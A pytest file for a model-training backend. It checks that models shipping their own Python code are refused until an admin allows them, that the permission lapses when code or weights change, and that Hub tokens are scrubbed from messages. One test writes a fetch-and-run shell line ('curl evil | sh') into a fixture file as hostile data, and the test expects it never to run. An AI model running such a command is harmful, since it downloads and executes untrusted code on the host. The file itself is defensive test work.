"""trust_remote_code stays off: a model folder that ships its own code (auto_map) is refused with a clear message
when it is loaded for training, until an admin (and only an admin) allows it for that one model; the change is
audited. Hub tokens are scrubbed from every message."""
import json

import pytest

from frbio_core import registry, users
from backend.models import trust
from backend.models.hub import scrub
from backend.models.importing import make_tiny_model
from backend.models.registry import ModelError, get_model
from test_training import build_env, config
from tests.data_helpers import run_in_process


@pytest.fixture
def tiny(tmp_path):
    db = registry.connect(tmp_path / "frbio.db")
    row = make_tiny_model(tmp_path, "custom", seed=0, tokenizer_from=None, db=db)
    return db, row


def add_auto_map(folder) -> None:
    path = folder / "config.json"
    data = json.loads(path.read_text())
    data["auto_map"] = {"AutoModelForCausalLM": "modeling_custom.CustomForCausalLM"}
    path.write_text(json.dumps(data))
    (folder / "modeling_custom.py").write_text("raise SystemExit('remote code ran')\n")


def test_own_code_is_refused_until_an_admin_allows_it_for_that_model(tiny):
    db, row = tiny
    assert trust.remote_code(db, row) is False and get_model(db, row["id"])["trust_remote_code"] == 0
    add_auto_map(__import__("pathlib").Path(row["path"]))
    assert trust.needs_remote_code(row["path"])
    with pytest.raises(ModelError, match="ships its own Python code .* trust-remote-code custom"):
        trust.remote_code(db, row["id"])
    users.add_user(db, "alice", "long enough")
    users.add_user(db, "root", "long enough", admin=True)
    with pytest.raises(users.PermissionDenied, match="only an admin"):
        trust.set_allowed(db, row["id"], actor="alice")
    assert trust.set_allowed(db, row["id"], actor="root")["trust_remote_code"] == 1
    assert trust.remote_code(db, row["id"]) is True
    trust.set_allowed(db, row["id"], False, actor="root")
    with pytest.raises(ModelError):
        trust.remote_code(db, row["id"])
    audit = users.list_audit(db, target=row["id"])
    assert [a["action"] for a in audit] == ["untrust_remote_code", "trust_remote_code", "refused"]
    assert audit[-1]["actor"] == "alice" and "trust_remote_code" in audit[-1]["detail"]["attempted"]


def test_the_permission_lapses_when_the_code_or_the_weights_change(tiny):
    """Row 9 of issue 13: allowed for one content, not for whatever is put in the folder later."""
    from pathlib import Path

    db, row = tiny
    folder = Path(row["path"])
    add_auto_map(folder)
    trust.set_allowed(db, row["id"])
    assert trust.remote_code(db, row["id"]) is True
    (folder / "modeling_custom.py").write_text("import os; os.system('curl evil | sh')\n")
    with pytest.raises(ModelError, match="its files changed since an admin allowed it: the permission has lapsed"):
        trust.remote_code(db, row["id"])
    trust.set_allowed(db, row["id"])                       # allowed again, for the new content
    assert trust.remote_code(db, row["id"]) is True
    weights = next(folder.glob("*.safetensors"))
    weights.write_bytes(weights.read_bytes() + b"\0")       # other weights behind the same code
    with pytest.raises(ModelError, match="permission has lapsed"):
        trust.remote_code(db, row["id"])


@pytest.fixture(scope="module")
def env(shared_data, tmp_path_factory, default_model_home):
    return build_env(tmp_path_factory.mktemp("trust"), shared_data, default_model_home)


def test_a_train_job_on_a_model_with_its_own_code_stops_with_the_reason(env):
    from pathlib import Path

    add_auto_map(Path(get_model(env["db"], "tiny")["path"]))
    job_id = env["submit"](config(env, max_steps=2))
    with pytest.raises(ModelError, match="ships its own Python code"):
        run_in_process(env["settings"], env["db"], job_id)


def test_tokens_are_scrubbed_from_messages():
    token = "hf_abcdefghijklmnopqrstuvwxyz012345"
    text = scrub(f"401 for https://huggingface.co with Authorization: Bearer {token} and {token}", token)
    assert token not in text and "hf_" not in text
